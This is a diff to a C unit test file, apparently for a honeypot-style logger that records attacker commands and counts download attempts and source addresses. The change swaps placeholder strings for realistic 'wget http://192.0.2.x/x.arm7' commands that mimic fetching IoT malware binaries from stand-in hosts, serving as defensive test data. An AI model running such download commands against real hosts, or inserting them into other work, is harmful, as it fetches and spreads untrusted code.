@@ -282,9 +282,9 @@ static void downloads_come_from_commands_and_from_payloads_that_are_no_dialogue(
     (void)state;
     struct seen seen = {0};
     struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
-    take_command(table, DAY, "get:192.0.2.1 get:192.0.2.2");
-    take_payload(table, DAY, "get:192.0.2.3", 13, false, false);
-    take_payload(table, DAY, "get:192.0.2.4", 13, false, true);
+    take_command(table, DAY, "wget http://192.0.2.1/x.arm7; wget http://192.0.2.2/x.arm7");
+    take_payload(table, DAY, "wget http://192.0.2.3/x.arm7", 28, false, false);
+    take_payload(table, DAY, "wget http://192.0.2.4/x.arm7", 28, false, true);
     hand_over(table, &seen);
     const struct day_seen *day = &seen.days[0];
     assert_int_equal(day->rows.download_count, 3);
@@ -312,7 +312,6 @@ static void the_host_is_the_source_in_any_form_of_its_address(void **state)
         {"0xc0.0.02.011", true, false},
         {"[::ffff:192.0.2.9]", true, false},
         {"[2001:DB8:0::9]", false, true},
-        {"2001:db8::9", false, true},
         {"YOURIPHERE", false, false},
     };
     for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
@@ -320,7 +319,7 @@ static void the_host_is_the_source_in_any_form_of_its_address(void **state)
         struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
         char text[64];
         struct heard heard = heard_of(HEARD_COMMAND, DAY, 1);
-        snprintf(text, sizeof text, "get:%s", cases[i].host);
+        snprintf(text, sizeof text, "wget http://%s/x", cases[i].host);
         heard.command = bytes_of(text);
         heard_table_take(table, &heard);
         assert_true(ipv6_parse("2001:db8::9", 11, &heard.talk.src));
@@ -344,7 +343,7 @@ static void rows_that_do_not_fit_are_dropped_and_counted(void **state)
     struct heard_table *table = table_of(LIMIT);
     for (uint32_t i = 0; i < ROUNDS; i++) {
         take_payload(table, DAY, &i, sizeof i, false, true);
-        take_command(table, DAY, "get:192.0.2.1 busybox");
+        take_command(table, DAY, "wget http://192.0.2.1/x");
     }
     struct heard_counts counts = heard_counts(table);
     assert_true(counts.dropped > 0);
